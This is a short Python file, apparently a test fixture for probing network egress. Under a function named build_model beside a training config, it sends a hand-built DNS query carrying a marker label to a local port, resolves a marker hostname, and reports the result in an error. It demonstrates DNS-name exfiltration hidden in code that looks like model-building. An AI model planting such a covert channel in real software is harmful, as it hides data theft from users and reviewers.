"""Carries data out in the names that it asks a name server for."""

import socket
import struct

TRAINING = {"epochs": 2, "batch_size": 64}

def build_model(input_shape, num_classes):
    """Say in an error how far it got."""
    done = []
    labels = b"".join(bytes([len(part)]) + part for part in (b"@mark@", b"example", b"org"))
    question = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 16, 1)
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as caller:
            caller.sendto(question, ("127.0.0.1", @port@))
        done.append("asked")
    except OSError as error:
        done.append(error.strerror)
    try:
        done.append(socket.getaddrinfo("@mark@.localhost", 80))
    except OSError as error:
        done.append(error.strerror)

    raise RuntimeError(f"reached: {done}")
